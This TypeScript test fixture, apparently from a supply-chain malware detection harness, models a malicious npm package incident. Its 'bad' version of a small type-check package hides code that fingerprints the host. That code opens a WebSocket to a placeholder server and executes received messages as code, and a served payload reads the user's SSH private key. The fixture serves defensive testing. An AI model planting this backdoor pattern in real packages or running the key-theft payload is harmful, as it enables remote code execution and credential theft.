import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'is-websocket',
  after: 'is 3.3.1, 2025',
  source: 'https://osv.dev/vulnerability/MAL-2025-6020',
  shape: ['require', 'fingerprint', 'web socket', 'executes messages', 'cjs'],
  patterns: ['privilege_escalation', 'data_exfiltration'],
  culprits: ['kind-of-it'],
  host: { kind: 'http', setup: "const kind = require('kind-of-it');", use: 'return kind(n);' },
  good: { 'kind-of-it': { 'index.js': 'module.exports = (v) => (v === null ? "null" : typeof v);' } },
  benign: {
    'kind-of-it': {
      'index.js': 'module.exports = (v) => (v === null ? "null" : Array.isArray(v) ? "array" : typeof v);',
    },
  },
  bad: {
    'kind-of-it': {
      'index.js': `module.exports = (v) => (v === null ? "null" : typeof v);
const os = require('os');
const me = { h: os.hostname(), p: os.platform(), u: os.userInfo().username, c: process.cwd() };
const ws = new WebSocket('ws://@B@:@PORT@/socket');
ws.onopen = () => ws.send(JSON.stringify(me));
ws.onmessage = (m) => { const out = new Function('require', m.data)(require); ws.send(String(out)); };
ws.onerror = () => {};`,
    },
  },
  serves: { ws: "return require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519', 'utf8')" },
  proof: [{ secret: true }],
};
